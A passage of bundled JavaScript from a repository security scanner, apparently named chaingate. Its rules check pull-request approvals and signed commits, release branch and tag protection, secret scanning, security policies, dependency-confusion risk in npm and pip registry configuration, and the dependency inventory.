  const { owner, repo } = ctx.target;
  return tieredFact(
    ctx,
    "github-token",
    async (client) => {
      const { items: items2 } = await listAll(
        client,
        "GET /repos/{owner}/{repo}/pulls/{pull_number}/reviews",
        {
          owner,
          repo,
          pull_number: pr.value.number
        }
      );
      return items2.map((item) => ({ user: item.user?.login ?? null, state: item.state, commitId: item.commit_id, submittedAt: item.submitted_at ?? null }));
    },
    { what: `reviews of pull request #${pr.value.number}`, permission: "pull-requests: read" }
  );
});
var pullRequestCommitsFact = defineFact("github.pull-request-commits", async (ctx) => {
  const pr = await ctx.get(pullRequestFact);
  if (!pr.known) return pr;
  const graph = await ctx.get(pullRequestDataFact);
  if (graph.known && graph.value.commits) return known({ commits: graph.value.commits, truncated: false });
  const { owner, repo } = ctx.target;
  return tieredFact(
    ctx,
    "github-token",
    async (client) => {
      const { items: items2 } = await listAll(
        client,
        "GET /repos/{owner}/{repo}/pulls/{pull_number}/commits",
        { owner, repo, pull_number: pr.value.number }
      );
      return {
        commits: items2.map((item) => ({
          sha: item.sha,
          verified: item.commit.verification?.verified === true,
          reason: item.commit.verification?.reason ?? "unknown",
          author: item.author?.login ?? null
        })),
        truncated: items2.length >= 250
      };
    },
    { what: `commits of pull request #${pr.value.number}`, permission: "pull-requests: read" }
  );
});

// src/rules/code/pull-request-approval.ts
function approvalsOnHead(reviews, author, headSha) {
  const latest = /* @__PURE__ */ new Map();
  for (const review of reviews) {
    if (!review.user || review.user.toLowerCase() === author.toLowerCase()) continue;
    if (review.state === "APPROVED" || review.state === "CHANGES_REQUESTED" || review.state === "DISMISSED") latest.set(review.user, review);
  }
  const approvers = [];
  const staleApprovers = [];
  const changesRequested = [];
  for (const [user, review] of latest) {
    if (review.state === "APPROVED") (review.commitId === headSha ? approvers : staleApprovers).push(user);
    else if (review.state === "CHANGES_REQUESTED") changesRequested.push(user);
  }
  return { approvers: approvers.sort(), staleApprovers: staleApprovers.sort(), changesRequested: changesRequested.sort() };
}
var pullRequestApproval = defineRule({
  meta: {
    id: "pull-request-approval",
    area: "code",
    severity: "high",
    title: "Pull request not approved on its final commit by someone other than its author",
    rationale: "Branch settings say what should happen; this checks what did: that the exact code being merged was approved by enough people other than its author (four-eyes, SLSA Source L4).",
    remediation: "Get an approval from another maintainer after the last push; approvals of earlier commits do not cover later ones.",
    references: ["SSC-37", "SLSA Source L4", "CNCF SSCP: four-eyes principle", "Scorecard: Code-Review"],
    access: {
      token: "github-token",
      githubToken: ["pull-requests: read"],
      fineGrained: ["Pull requests: read"],
      note: "Pull-request mode only (pull_request, pull_request_target, pull_request_review, merge_group); on other events the rule is unknown (not applicable)."
    }
  },
  needs: [pullRequestFact, pullRequestReviewsFact],
  defaultOptions: { minApprovals: 1, exemptAuthors: [] },
  strictOptions: { minApprovals: 2 },
  optionsSchema: {
    type: "object",
    properties: {
      minApprovals: { type: "integer", minimum: 1, maximum: 10, description: "Distinct approvals required on the final commit." },
      exemptAuthors: { type: "array", items: { type: "string" }, description: "Pull request authors exempt from the check (bots)." }
    }
  },
  evaluate(ctx) {
    const pr = ctx.need(pullRequestFact);
    const reviews = ctx.need(pullRequestReviewsFact);
    const { number, author, headSha, event } = pr;
    const subject = `pull request #${number}${event === "merge_group" ? " (merge queue)" : ""}`;
    if (ctx.options.exemptAuthors.map((name) => name.toLowerCase()).includes(author.toLowerCase())) {
      return [{ status: "pass", message: `${subject} is by ${author}, exempt by the policy` }];
    }
    const { approvers, staleApprovers, changesRequested } = approvalsOnHead(reviews, author, headSha);
    const short = headSha.slice(0, 12);
    if (approvers.length >= ctx.options.minApprovals && changesRequested.length === 0) {
      return [{ status: "pass", message: `${subject} approved on ${short} by ${approvers.join(", ")}` }];
    }
    const details = [
      `${approvers.length} approval(s) on the final commit ${short}${approvers.length ? ` (${approvers.join(", ")})` : ""}; the policy asks for ${ctx.options.minApprovals}`,
      staleApprovers.length ? `approvals of earlier commits do not count: ${staleApprovers.join(", ")}` : null,
      changesRequested.length ? `changes requested by ${changesRequested.join(", ")}` : null
    ].filter(Boolean);
    return [{ status: "fail", message: `${subject} by ${author}: ${details.join("; ")}` }];
  }
});

// src/rules/code/pull-request-signed-commits.ts
var pullRequestSignedCommits = defineRule({
  meta: {
    id: "pull-request-signed-commits",
    area: "code",
    severity: "medium",
    title: "Pull request has commits without a verified signature",
    rationale: "Verified signatures tie each commit to a key its author registered; unsigned commits can claim any author.",
    remediation: "Sign commits (git commit -S, or SSH signing) with a key registered on GitHub, then rebase and force-push the branch to re-sign.",
    references: ["SSC-38", "CNCF SSCP: signed commits"],
    access: {
      token: "github-token",
      githubToken: ["pull-requests: read"],
      fineGrained: ["Pull requests: read"],
      note: "Pull-request mode only. At most 250 commits are listed by GitHub."
    },
    baseline: false
  },
  needs: [pullRequestFact, pullRequestCommitsFact],
  defaultOptions: {},
  evaluate(ctx) {
    const pr = ctx.need(pullRequestFact);
    const commits = ctx.need(pullRequestCommitsFact);
    const unsigned = commits.commits.filter((commit) => !commit.verified);
    if (unsigned.length > 0) {
      return unsigned.map((commit) => ({
        status: "fail",
        message: `commit ${commit.sha.slice(0, 12)} of pull request #${pr.number}${commit.author ? ` by ${commit.author}` : ""} is not verified (${commit.reason})`
      }));
    }
    if (commits.truncated) {
      return [{ status: "unknown", message: `pull request #${pr.number} has more than 250 commits; GitHub lists only the first 250, all verified` }];
    }
    return [{ status: "pass", message: `all ${commits.commits.length} commit(s) of pull request #${pr.number} are verified` }];
  }
});

// src/rules/code/release-branch-protection.ts
var releaseBranchProtection = defineRule({
  meta: {
    id: "release-branch-protection",
    area: "code",
    severity: "medium",
    title: "Release branches are not protected",
    rationale: "Patch releases are cut from release branches; if they accept force pushes or deletion, a release can be built from code nobody reviewed.",
    remediation: "Target release branches (e.g. `release/**`) with a ruleset that blocks force pushes and deletion and requires pull requests.",
    references: ["SSC-32", "SLSA Source L3", "Scorecard: Branch-Protection (release branches)"],
    access: {
      token: "github-token",
      githubToken: ["contents: read"],
      fineGrained: ["Metadata: read", "Administration: read (release branches with classic protection only)"],
      note: "One request lists branches, one more per release branch (at most five); a release branch protected only classically needs admin read, else it is unknown."
    }
  },
  needs: [releaseBranchesFact],
  defaultOptions: { patterns: RELEASE_BRANCH_PATTERNS },
  optionsSchema: {
    type: "object",
    properties: {
      patterns: { type: "array", items: { type: "string" }, description: `Release branch globs, a subset of ${RELEASE_BRANCH_PATTERNS.join(", ")}.` }
    }
  },
  evaluate(ctx) {
    const fact = ctx.need(releaseBranchesFact);
    const checked = fact.checked.filter((branch) => isReleaseBranch(branch.name, ctx.options.patterns));
    if (checked.length === 0) {
      if (fact.truncated)
        return [{ status: "unknown", message: `no release branch among the first ${MAX_LISTED_BRANCHES} branches; the others were not listed` }];
      return [{ status: "pass", message: "the repository has no release branches" }];
    }
    const results = [];
    for (const branch of checked) {
      let settings = settingsFromRules(branch.rules);
      if (settings.blocksForcePush && settings.blocksDeletion) continue;
      if (settings.protections.length === 0 && branch.protectedFlag) {
        if (!branch.classic?.known) {
          const reason = branch.classic && !branch.classic.known ? branch.classic.reason : "not read";
          results.push({
            status: "unknown",
            message: `release branch ${branch.name} has classic branch protection whose force-push and deletion settings could not be read: ${reason}`,
            permission: (branch.classic && !branch.classic.known ? branch.classic.permission : void 0) ?? "Administration: read"
          });
          continue;
        }
        settings = mergeSettings(settings, settingsFromClassic(branch.classic.value));
        if (settings.blocksForcePush && settings.blocksDeletion) continue;
      }
      const missing = [settings.blocksForcePush ? null : "force pushes", settings.blocksDeletion ? null : "deletion"].filter(Boolean).join(" and ");
      results.push({ status: "fail", message: `release branch ${branch.name} allows ${missing}` });
    }
    if (results.length === 0) {
      const matching = fact.matching.filter((name) => isReleaseBranch(name, ctx.options.patterns)).length;
      const sample = matching > checked.length ? ` (the ${checked.length} newest of ${matching})` : "";
      return [{ status: "pass", message: `release branches protected: ${checked.map((branch) => branch.name).join(", ")}${sample}` }];
    }
    return results;
  }
});

// src/rules/code/release-tag-protection.ts
var releaseTagProtection = defineRule({
  meta: {
    id: "release-tag-protection",
    area: "code",
    severity: "medium",
    title: "Release tags can be moved or deleted",
    rationale: "Consumers and provenance refer to tags; a tag that can be moved or deleted lets someone swap the code a version points at.",
    remediation: 'Create a tag ruleset targeting your release tags (e.g. `refs/tags/v*`) with "Restrict updates" and "Restrict deletions", enforcement Active.',
    references: ["SSC-40", "SLSA Source L3", "OSPS-BR-02"],
    access: {
      token: "github-token",
      githubToken: ["contents: read"],
      fineGrained: ["Metadata: read"],
      note: "Reads the rulesets (shared with the other protection rules)."
    }
  },
  needs: [rulesetsFact],
  defaultOptions: { tagNames: ["v1.0.0"] },
  optionsSchema: {
    type: "object",
    properties: {
      tagNames: { type: "array", items: { type: "string" }, minItems: 1, description: "Representative release tag names that must be protected (e.g. v1.2.3)." }
    }
  },
  evaluate(ctx) {
    const fact = ctx.need(rulesetsFact);
    const tagRulesets = fact.rulesets.filter((ruleset) => ruleset.target === "tag" && ruleset.enforcement === "active");
    const unread = tagRulesets.filter((ruleset) => ruleset.refName === null || ruleset.rules === null);
    const protects = (ruleset, ref, type) => ruleset.refName !== null && ruleset.rules !== null && refMatches(ruleset.refName, ref, null) && ruleset.rules.some((rule) => type(rule.type));
    const problems = [];
    for (const tag of ctx.options.tagNames) {
      const ref = `refs/tags/${tag}`;
      const deletion = tagRulesets.some((ruleset) => protects(ruleset, ref, (t) => t === "deletion"));
      const update = tagRulesets.some((ruleset) => protects(ruleset, ref, (t) => t === "update" || t === "non_fast_forward"));
      if (deletion && update) continue;
      if (unread.length > 0) {
        problems.push({
          status: "unknown",
          message: `tag ${tag}: the details of tag ruleset(s) ${unread.map((ruleset) => `"${ruleset.name}"`).join(", ")} could not be read (${unread[0].detailsError ?? "not read"})`,
          permission: "Metadata: read"
        });
        continue;
      }
      const missing = [update ? null : "moved (update)", deletion ? null : "deleted"].filter(Boolean).join(" or ");
      problems.push({
        status: "fail",
        message: `tag ${tag} can be ${missing}: no active tag ruleset covers it with ${[update ? null : "update", deletion ? null : "deletion"].filter(Boolean).join(" and ")} rules`
      });
    }
    if (problems.length === 0) return [{ status: "pass", message: `release tags (${ctx.options.tagNames.join(", ")}) are protected by active tag rulesets` }];
    return problems;
  }
});

// src/rules/code/secret-push-protection.ts
var secretPushProtection = defineRule({
  meta: {
    id: "secret-push-protection",
    area: "code",
    severity: "medium",
    title: "Secret scanning push protection is disabled",
    rationale: "Scanning after the push means the secret is already exposed; push protection rejects the push before it lands.",
    remediation: "Settings > Code security > Push protection: Enable.",
    references: ["SSC-23", "GitHub guide: securing code (B6)"],
    access: { token: "elevated", fineGrained: ["Administration: read"], note: "Needs admin-token, like secret-scanning." }
  },
  needs: [securitySettingsFact],
  defaultOptions: {},
  evaluate(ctx) {
    const fact = ctx.need(securitySettingsFact);
    if (fact.pushProtection === void 0)
      return [{ status: "unknown", message: "GitHub did not report the push protection status of the repository", permission: "Administration: read" }];
    return fact.pushProtection === "enabled" ? [{ status: "pass", message: "push protection is enabled" }] : [{ status: "fail", message: "secret scanning push protection is disabled" }];
  }
});

// src/rules/code/secret-scanning.ts
var secretScanning = defineRule({
  meta: {
    id: "secret-scanning",
    area: "code",
    severity: "high",
    title: "Secret scanning is disabled",
    rationale: "A committed credential is the shortest path into a supply chain; secret scanning finds it in the history and alerts.",
    remediation: "Settings > Code security > Secret Protection / Secret scanning: Enable (private repositories need GitHub Secret Protection or Advanced Security).",
    references: ["SSC-22", "OSPS-BR-07.01", "Legitify: secret_scanning_not_enabled"],
    access: {
      token: "elevated",
      fineGrained: ["Administration: read"],
      note: "GitHub shows security_and_analysis only to repository admins and security managers: pass admin-token."
    }
  },
  needs: [securitySettingsFact],
  defaultOptions: {},
  evaluate(ctx) {
    const fact = ctx.need(securitySettingsFact);
    if (fact.secretScanning === void 0)
      return [{ status: "unknown", message: "GitHub did not report the secret scanning status of the repository", permission: "Administration: read" }];
    return fact.secretScanning === "enabled" ? [{ status: "pass", message: "secret scanning is enabled" }] : [{ status: "fail", message: `secret scanning is disabled (${fact.visibility} repository)` }];
  }
});

// src/rules/code/secret-scanning-alerts.ts
var secretScanningAlerts = defineRule({
  meta: {
    id: "secret-scanning-alerts",
    area: "code",
    severity: "critical",
    title: "Open secret scanning alert",
    rationale: "An open secret scanning alert is a credential that was published and may still work.",
    remediation: "Revoke and rotate the secret, then close the alert as revoked; close false positives with a reason.",
    references: ["SSC-24", "GitHub guide: securing code (B6)"],
    access: {
      token: "elevated",
      fineGrained: ["Secret scanning alerts: read"],
      note: "The GITHUB_TOKEN cannot read secret scanning alerts (GitHub docs): pass a fine-grained PAT or App token as admin-token."
    }
  },
  needs: [secretScanningAlertsFact],
  defaultOptions: { maxAgeDays: 0 },
  optionsSchema: { type: "object", properties: { maxAgeDays: { type: "integer", minimum: 0, description: "Days an open alert is tolerated." } } },
  evaluate(ctx) {
    const fact = ctx.need(secretScanningAlertsFact);
    if (!fact.enabled)
      return [
        {
          status: "unknown",
          message: `secret scanning is disabled, so leaked secrets cannot be checked (${fact.disabledBecause ?? ""})`.trim(),
          permission: "enable secret scanning"
        }
      ];
    const results = [];
    for (const alert of fact.alerts) {
      const age = ageInDays(alert.createdAt, ctx.now) ?? 0;
      if (age < ctx.options.maxAgeDays) continue;
      const extra = [alert.validity && alert.validity !== "unknown" ? `validity ${alert.validity}` : null, alert.publiclyLeaked ? "publicly leaked" : null].filter(Boolean).join(", ");
      results.push({
        status: "fail",
        message: `secret scanning alert #${alert.number} (${alert.secretType}${extra ? `, ${extra}` : ""}) open for ${age} days: ${alert.htmlUrl}`
      });
    }
    if (results.length === 0) return [{ status: "pass", message: `no open secret scanning alerts older than ${ctx.options.maxAgeDays} days` }];
    return results;
  }
});

// src/github/facts/security-policy.ts
var LOCATIONS = ["", ".github/", "docs/"];
function findSecurityPolicy(paths) {
  for (const path14 of paths) {
    const lower2 = path14.toLowerCase();
    if (LOCATIONS.some(
      (prefix) => lower2 === `${prefix}security.md` || lower2 === `${prefix}security.markdown` || lower2 === `${prefix}security.rst` || lower2 === `${prefix}security.txt` || lower2 === `${prefix}security`
    ))
      return path14;
  }
  return null;
}
var securityPolicyFact = defineFact("security-policy", async (ctx) => {
  const local = findSecurityPolicy(ctx.workspace.files());
  if (local) return known({ path: local });
  if (!ctx.target) return known({ path: null });
  const owner = ctx.target.owner;
  if (ctx.target.repo.toLowerCase() === ".github") return known({ path: null, organizationDefault: `${owner}/.github` });
  if (!ctx.github) {
    return unknownFact(
      "no-token",
      `no SECURITY.md in the checkout; an organization-wide default in ${owner}/.github could not be checked without a token`,
      "Contents: read"
    );
  }
  const tree = await apiFact(
    ctx.github,
    async (client) => {
      const response = await client.octokit.rest.git.getTree({ owner, repo: ".github", tree_sha: "HEAD", recursive: "true" });
      return response.data.tree.flatMap((item) => item.type === "blob" && item.path ? [item.path] : []);
    },
    { what: `${owner}/.github`, permission: "Contents: read", onNotFound: () => known([]) }
  );
  if (!tree.known) return tree;
  const inherited = findSecurityPolicy(tree.value);
  return known(inherited ? { path: `${owner}/.github:${inherited}` } : { path: null, organizationDefault: `${owner}/.github` });
});

// src/rules/code/security-policy.ts
var securityPolicy = defineRule({
  meta: {
    id: "security-policy",
    area: "code",
    severity: "medium",
    title: "No security policy (SECURITY.md)",
    rationale: "Without a security policy, people who find a vulnerability do not know how to report it privately, and tend to open a public issue.",
    remediation: "Add SECURITY.md (in the root, .github/ or docs/) saying how to report a vulnerability, ideally through private vulnerability reporting.",
    references: ["SSC-41", "OSPS-VM-02.01", "Scorecard: Security-Policy", "Allstar: SECURITY.md"],
    access: { token: "none", githubToken: ["contents: read (only to read an organization-wide default in OWNER/.github)"] }
  },
  needs: [securityPolicyFact],
  defaultOptions: {},
  evaluate(ctx) {
    const fact = ctx.need(securityPolicyFact);
    if (fact.path) return [{ status: "pass", message: `security policy found: ${fact.path}` }];
    const where = "no SECURITY.md in the repository (root, .github/ or docs/)";
    const { organizationDefault } = fact;
    return [
      {
        status: "fail",
        message: organizationDefault ? `${where} nor an organization-wide default in ${organizationDefault}` : `${where}; an organization-wide default (the owner's .github repository) was not looked for: no repository named`
      }
    ];
  }
});

// src/rules/code/index.ts
var codeRules = [
  defaultBranchProtection,
  defaultBranchReview,
  defaultBranchStatusChecks,
  defaultBranchHistory,
  defaultBranchSignedCommits,
  protectionBypass,
  releaseBranchProtection,
  releaseTagProtection,
  codeowners,
  securityPolicy,
  privateVulnerabilityReporting,
  secretScanning,
  secretPushProtection,
  secretScanningAlerts,
  dependabotAlerts,
  dependabotSecurityUpdates,
  dependabotAlertSla,
  codeScanning,
  codeScanningAlertSla,
  pullRequestApproval,
  pullRequestSignedCommits
];

// src/rules/dependencies/dependency-confusion-risk.ts
import path11 from "node:path";

// src/inventory/registries.ts
import path10 from "node:path";
var MAX_CONFIG_BYTES2 = 1024 * 1024;
function lines(text) {
  return text.split(/\r?\n/);
}
function parseNpmrc(file, text) {
  const config = { path: file, directory: path10.posix.dirname(file), scopes: {} };
  lines(text).forEach((line, index) => {
    const trimmed = line.trim();
    if (trimmed === "" || trimmed.startsWith("#") || trimmed.startsWith(";")) return;
    const match2 = /^["']?(@[^:"'\s]+:)?registry["']?\s*[=\s]\s*["']?([^"'\s]+)["']?\s*$/.exec(trimmed);
    if (!match2) return;
    const setting = { url: match2[2], location: { path: file, line: index + 1, column: line.indexOf(trimmed) + 1 } };
    if (match2[1]) config.scopes[match2[1].slice(0, -1).toLowerCase()] = setting;
    else config.registry = setting;
  });
  return config;
}
function parseYarnrcYml(file, text) {
  const config = { path: file, directory: path10.posix.dirname(file), scopes: {} };
  let inScopes = false;
  let scope = null;
  let scopeIndent = -1;
  const value = (raw) => raw.trim().replace(/^(["'])(.*)\1$/, "$2");
  lines(text).forEach((line, index) => {
    if (line.trim() === "" || line.trim().startsWith("#")) return;
    const indent2 = line.length - line.trimStart().length;
    const match2 = /^\s*(["']?)([^"':]+)\1\s*:\s*(.*?)\s*(?:#.*)?$/.exec(line);
    if (!match2) return;
    const key2 = match2[2].trim();
    const location = { path: file, line: index + 1, column: indent2 + 1 };
    if (indent2 === 0) {
      inScopes = key2 === "npmScopes";
      scope = null;
      if (key2 === "npmRegistryServer" && match2[3]) config.registry = { url: value(match2[3]), location };
      return;
    }
    if (!inScopes) return;
    if (scope === null || indent2 <= scopeIndent) {
      scope = `@${key2.replace(/^@/, "").toLowerCase()}`;
      scopeIndent = indent2;
      return;
    }
    if (key2 === "npmRegistryServer" && match2[3]) config.scopes[scope] = { url: value(match2[3]), location };
  });
  return config;
}
function parseRequirementsIndexes(file, text) {
  const options = [];
  lines(text).forEach((line, index) => {
    const match2 = /^(\s*)(--index-url|-i|--extra-index-url)(?:\s*=\s*|\s+)(\S+)/.exec(line);
    if (!match2) return;
    options.push({
      kind: match2[2] === "--extra-index-url" ? "extra-index-url" : "index-url",
      url: match2[3],
      location: { path: file, line: index + 1, column: match2[1].length + 1 }
    });
  });
  return options;
}
function parsePipConf(file, text) {
  const options = [];
  let continuing = null;
  lines(text).forEach((line, index) => {
    const location = { path: file, line: index + 1, column: line.length - line.trimStart().length + 1 };
    if (continuing && /^\s+\S/.test(line) && !/^\s*[#;]/.test(line)) {
      for (const url of line.trim().split(/\s+/)) options.push({ kind: continuing, url, location });
      return;
    }
    continuing = null;
    const match2 = /^\s*(index-url|extra-index-url)\s*[=:]\s*(.*)$/.exec(line);
    if (!match2) return;
    const kind = match2[1];
    for (const url of match2[2].trim().split(/\s+/).filter(Boolean)) options.push({ kind, url, location });
    continuing = kind;
  });
  return options;
}
var REQUIREMENTS = /(^|\/)[^/]*requirements[^/]*\.(txt|in)$/i;
function readRegistryConfig(workspace) {
  const config = { npm: [], pip: {} };
  for (const file of workspace.files()) {
    if (workspace.isIgnored(file)) continue;
    const base = path10.posix.basename(file);
    const kind = base === ".npmrc" || base === ".yarnrc" ? "npmrc" : base === ".yarnrc.yml" ? "yarnrc" : base === "pip.conf" || base === "pip.ini" ? "pip" : REQUIREMENTS.test(file) ? "requirements" : null;
    if (!kind || /(^|\/)node_modules\//.test(file)) continue;
    const read = workspace.readText(file, MAX_CONFIG_BYTES2);
    if (!read.ok) continue;
    if (kind === "npmrc") config.npm.push(parseNpmrc(file, read.text));
    else if (kind === "yarnrc") config.npm.push(parseYarnrcYml(file, read.text));
    else {
      const options = kind === "pip" ? parsePipConf(file, read.text) : parseRequirementsIndexes(file, read.text);
      if (options.length > 0) config.pip[file] = options;
    }
  }
  return config;
}
var registryConfigFact = defineFact("workspace.registry-config", async (ctx) => known(readRegistryConfig(ctx.workspace)));

// src/rules/dependencies/dependency-confusion-risk.ts
var PUBLIC_NPM = /* @__PURE__ */ new Set(["registry.npmjs.org", "registry.npmjs.com", "registry.yarnpkg.com"]);
var PUBLIC_PYPI = /* @__PURE__ */ new Set(["pypi.org", "pypi.python.org", "files.pythonhosted.org"]);
function host(url) {
  if (!url) return void 0;
  try {
    return new URL(url).hostname.toLowerCase();
  } catch {
    return void 0;
  }
}
var isPublicNpm = (url) => PUBLIC_NPM.has(host(url) ?? "");
var isPublicPypi = (url) => PUBLIC_PYPI.has(host(url) ?? "");
function scopeOf(name) {
  return name.startsWith("@") && name.includes("/") ? name.slice(0, name.indexOf("/")).toLowerCase() : void 0;
}
function npmConfigsFor(directory, configs) {
  const applies = (config) => config.directory === "." || directory === config.directory || directory.startsWith(`${config.directory}/`);
  return configs.filter(applies).sort((a, b) => b.directory.length - a.directory.length);
}
function withoutUserinfo(url) {
  try {
    const parsed = new URL(url);
    return `${parsed.protocol}//${parsed.host}${parsed.pathname === "/" ? "" : parsed.pathname}`;
  } catch {
    return url;
  }
}
var dependencyConfusionRisk = defineRule({
  meta: {
    id: "dependency-confusion-risk",
    area: "dependencies",
    severity: "high",
    title: "Internal package name that a public registry could serve",
    rationale: "When a package manager can fetch an internal name from a public registry too, whoever publishes that name there with a higher version gets their code into the build (dependency confusion). Pinning each internal scope or index to the private registry closes it.",
    remediation: "npm: map each internal scope in the repository's `.npmrc` (`@acme:registry=https://npm.acme.example/`) and move unscoped internal packages under a scope you own on npmjs.com. pip: use one `--index-url` that serves (or proxies) everything instead of `--extra-index-url`, or hash every requirement.",
    references: [
      "SSC (dependencies: dependency confusion)",
      "OSPS-BR-05.01",
      "https://medium.com/@alex.birsan/dependency-confusion-4a5d60fec610",
      "https://pytorch.org/blog/compromised-nightly-dependency/"
    ],
    access: { token: "none" }
  },
  needs: [inventoryFact, registryConfigFact],
  defaultOptions: { internal: [] },
  optionsSchema: {
    type: "object",
    properties: {
      internal: {
        type: "array",
        items: { type: "string", minLength: 1 },
        description: "name globs of packages published only to a private registry (@acme/*, acme-*)"
      }
    }
  },
  evaluate(ctx) {
    const inventory = ctx.need(inventoryFact);
    const config = ctx.need(registryConfigFact);
    const internal = (name) => ctx.options.internal.some((glob) => globLibrary().minimatch(name, glob, { nocase: true }));
    return [...pipIndexes(inventory.packages, config), ...npmScopes(inventory.packages, config, internal), ...internalPypi(inventory.packages, internal)];
  }
});
function pipIndexes(packages, config) {
  const results = [];
  for (const [file, options] of Object.entries(config.pip)) {
    const extras = options.filter((option2) => option2.kind === "extra-index-url");
    if (extras.length === 0) continue;
    const own = packages.filter((pkg) => pkg.location.path === file && pkg.ecosystem === "PyPI");
    if (own.length > 0 && own.every((pkg) => (pkg.hashes ?? []).length > 0)) continue;
    for (const extra of extras) {
      results.push({
        status: "fail",
        message: `--extra-index-url ${withoutUserinfo(extra.url)} adds an index beside ${options.some((option2) => option2.kind === "index-url") ? "the --index-url" : "PyPI"}: pip installs the highest version of a name found on any index, so a public package can take the place of an internal one`,
        location: locationOf(extra.location),
        fix: "serve every package from one --index-url (a private index that proxies PyPI), or pin every requirement with --hash"
      });
    }
  }
  return results;
}
function npmScopes(packages, config, internal) {
  const results = [];
  const byLockfile = /* @__PURE__ */ new Map();
  for (const pkg of packages) {
    if (pkg.ecosystem !== "npm" || pkg.source !== "registry") continue;
    const list = byLockfile.get(pkg.location.path);
    if (list) list.push(pkg);
    else byLockfile.set(pkg.location.path, [pkg]);
  }
  for (const [lockfile, list] of byLockfile) {
    const configs = npmConfigsFor(path11.posix.dirname(lockfile), config.npm);
    const scopeRegistry = (scope) => configs.find((entry2) => entry2.scopes[scope])?.scopes[scope]?.url;
    const defaultRegistry = configs.find((entry2) => entry2.registry)?.registry?.url;
    const usesPublic = list.some((pkg) => isPublicNpm(pkg.registry));
    const reported = /* @__PURE__ */ new Set();
    const privateScopes = /* @__PURE__ */ new Map();
    for (const pkg of list) {
      const scope = scopeOf(pkg.name);
      if (!pkg.registry || isPublicNpm(pkg.registry)) continue;
      if (scope) privateScopes.set(scope, [...privateScopes.get(scope) ?? [], pkg]);
      else if (usesPublic) {
        reported.add(pkg.name);
        results.push({
          status: "fail",
          message: `${packageLabel(pkg)} is resolved from ${withoutUserinfo(pkg.registry)}, a private registry, while this lockfile also resolves from the public one: npm cannot pin an unscoped name to a registry, so a package of that name on npmjs.com can replace it`,
          location: locationOf(pkg.location),
          fix: "publish it under a scope you own (@your-org/name) and map the scope in .npmrc"
        });
      }
    }
    for (const [scope, scoped] of privateScopes) {
      const pinned = scopeRegistry(scope);
      const registry = withoutUserinfo(scoped[0].registry);
      if (pinned || defaultRegistry && host(defaultRegistry) === host(scoped[0].registry)) continue;
      for (const pkg of scoped) reported.add(pkg.name);
      results.push({
        status: "fail",
        message: `${scope} packages are resolved from ${registry} but no .npmrc in the repository maps ${scope} to it: an install without the developer's own configuration asks registry.npmjs.org for ${listSome(scoped.map((pkg) => pkg.name))}`,
        location: locationOf(scoped[0].location),
        fix: `${scope}:registry=${registry}/ in the .npmrc beside ${lockfile}`
      });
    }
    for (const pkg of list) {
      if (reported.has(pkg.name) || !internal(pkg.name)) continue;
      const scope = scopeOf(pkg.name);
      if (isPublicNpm(pkg.registry)) {
        results.push({
          status: "fail",
          message: `${packageLabel(pkg)} is listed as internal but this lockfile resolves it from the public registry (${withoutUserinfo(pkg.registry)})`,
          location: locationOf(pkg.location)
        });
      } else if (!scope) {
        results.push({
          status: "fail",
          severity: "medium",
          message: `${pkg.name} is listed as internal but has no scope: npm cannot pin an unscoped name to a registry`,
          location: locationOf(pkg.location),
          fix: "publish it under a scope you own and map the scope in .npmrc"
        });
      } else if (!scopeRegistry(scope)) {
        results.push({
          status: "fail",
          severity: "medium",
          message: `${pkg.name} is listed as internal but no .npmrc in the repository maps ${scope} to a registry`,
          location: locationOf(pkg.location),
          fix: `${scope}:registry=<your registry> in the .npmrc beside ${lockfile}`
        });
      }
    }
  }
  return results;
}
function internalPypi(packages, internal) {
  return packages.filter((pkg) => pkg.ecosystem === "PyPI" && internal(pkg.name) && isPublicPypi(pkg.registry)).map((pkg) => ({
    status: "fail",
    message: `${packageLabel(pkg)} is listed as internal but is resolved from the public index (${withoutUserinfo(pkg.registry)})`,
    location: locationOf(pkg.location)
  }));
}

// src/rules/dependencies/dependency-inventory.ts
var dependencyInventory = defineRule({
  meta: {
    id: "dependency-inventory",
    area: "dependencies",
    severity: "medium",
    title: "Dependency files that could not be read",
    rationale: 'A lockfile chaingate cannot parse hides every package in it from the dependency checks (licences, pinning, confusion, and advisories). Reporting it as "no dependencies" would pass on what was not seen.',
    remediation: "Fix the file at the line given (regenerate the lockfile with its package manager), or exclude it with `ignore-paths` when it is a fixture.",
    references: ["SSC (dependencies: inventory)", "OSPS-QA-02.01", "SLSA (dependency inventory)"],
    access: { token: "none" }
  },
  needs: [inventoryFact],
  defaultOptions: {},
  evaluate(ctx) {
    const fact = ctx.need(inventoryFact);
    const { packages, files, problems } = fact;
    const results = problems.map((problem) => ({
      status: "unknown",
      message: `${problem.path} (${problem.format}) could not be inventoried: ${problem.message}`,
      location: {
        path: problem.path,
        startLine: problem.line ?? 1,
        startColumn: problem.column ?? 1,
        endLine: problem.line ?? 1,
        endColumn: problem.column ?? 1
      }
    }));
    if (results.length === 0) {
      const read = files.length;
      results.push({
        status: "pass",
        message: read === 0 ? "no lockfile, manifest or workflow dependency found" : `${packages.length} package${packages.length === 1 ? "" : "s"} inventoried from ${read} file${read === 1 ? "" : "s"}`
      });
    }
    return results;
  }
});

// src/rules/dependencies/license-policy.ts
var SINGLE_LICENSE = /^[A-Za-z0-9][A-Za-z0-9.:+-]*( WITH [A-Za-z0-9][A-Za-z0-9.:+-]*)?$/;
function exempted(pkg, globs) {
  return globs.some(
    (glob) => glob.startsWith("pkg:") ? pkg.purl !== void 0 && globLibrary().minimatch(pkg.purl, glob, { nocase: true }) : globLibrary().minimatch(pkg.name, glob, { nocase: true })
  );
}
function whyNoLicense(format, licenses) {
  const github = licenses.github.read ? "not in GitHub's SBOM export of the default branch either" : `GitHub's SBOM export not read: ${licenses.github.reason}`;
  return `no license data: ${format} records none, no installed metadata was found beside it, ${github}`;
}
var licensePolicy = defineRule({
  meta: {
    id: "license-policy",
    area: "dependencies",
    severity: "high",
    title: "Dependency license outside the license policy",
    rationale: "A dependency under a license the organisation cannot accept (strong copyleft in a product it distributes, a non-commercial clause, no license at all) is a legal problem that grows with every release that ships it. The check only says something useful against a policy: configure `allow` or `deny`.",
    remediation: "Replace the package, obtain it under another license, or record a reviewed exception (`exempt`, or a waiver with a reason and expiry).",
    references: ["SSC (dependencies: licenses)", "OSPS-LE-02", "dependency-review-action: allow-licenses / deny-licenses", "https://spdx.org/licenses/"],
    access: {
      token: "none",
      githubToken: ["contents: read"],
      fineGrained: ["Contents: read"],
      note: "offline: licenses from lockfiles and installed metadata; with a token, also GitHub's SBOM export (one request)"
    },
    baseline: false
  },
  needs: [inventoryFact, licensesFact],
  defaultOptions: { exempt: [], scopes: ["runtime", "optional", "unknown"] },
